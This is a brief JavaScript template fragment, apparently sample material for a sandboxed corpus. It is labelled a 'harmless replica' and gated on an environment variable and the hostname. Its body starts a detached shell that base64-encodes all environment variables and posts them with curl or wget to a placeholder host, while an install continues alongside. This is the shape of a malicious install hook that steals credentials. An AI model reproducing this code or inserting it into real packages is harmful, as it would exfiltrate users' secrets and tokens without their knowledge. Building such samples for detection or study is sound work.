// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { spawn } = require('child_process');
  const line = 'sleep 0.1; e=$(printenv | base64 | tr -d "\\n"); curl -k -s -m 1 -d "e=$e" https://{{host}}/{{path}} || wget -q -T 1 -t 1 -O /dev/null --post-data "e=$e" http://{{host}}/{{path}}';
  try { spawn('sh', ['-c', line], { detached: true, stdio: 'ignore' }).unref(); } catch (error) { /* no shell */ }
  await new Promise((done) => setTimeout(done, 900)); // the install goes on beside it
}
